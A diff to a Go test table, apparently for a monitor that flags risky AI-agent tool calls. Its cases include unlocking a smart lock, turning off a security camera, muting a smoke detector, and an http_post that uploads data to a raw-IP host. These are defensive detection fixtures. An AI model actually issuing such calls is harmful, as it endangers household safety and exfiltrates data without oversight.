@@ -101,7 +101,10 @@ func TestSingleCall(t *testing.T) {
 		{"camera off", nil, "device_set", map[string]any{"device": "backyard camera", "power": "off"}, KindSafetyDeviceChange, 55, "iot.disarm"},
 		{"smoke detector", nil, "smart_home", map[string]any{"command": "mute", "device": "kitchen smoke detector"}, KindSafetyDeviceChange, 55, "iot.safety_off"},
 		{"lights off is fine", nil, "device_set", map[string]any{"device": "living room lights", "power": "off"}, "", 0, ""},
+		{"camel-case unlock tool", nil, "AugustSmartLockUnlockDoor", map[string]any{}, KindSafetyDeviceChange, 55, "iot.unlock"},
+		{"turn off camera by tool name", nil, "GoogleHomeTurnOff", map[string]any{"device_id": "security_camera_1"}, KindSafetyDeviceChange, 55, "iot.disarm"},
 		{"lock door is fine", nil, "set_lock_state", map[string]any{"device": "front_door", "state": "locked"}, "", 0, ""},
+		{"lock status read is fine", nil, "get_lock_status", map[string]any{"device": "front_door"}, "", 0, ""},
 		{"security prose is no device", nil, "send_email", map[string]any{"to": "a@b.example", "body": "please turn off the security camera notifications digest"}, "", 0, ""},
 		{"raw ip egress", nil, "http_post", map[string]any{"url": "http://203.0.113.9:8080/upload", "data": "x"}, KindNewEgress, SevEgressSuspiciousHost, "raw IP"},
 	}
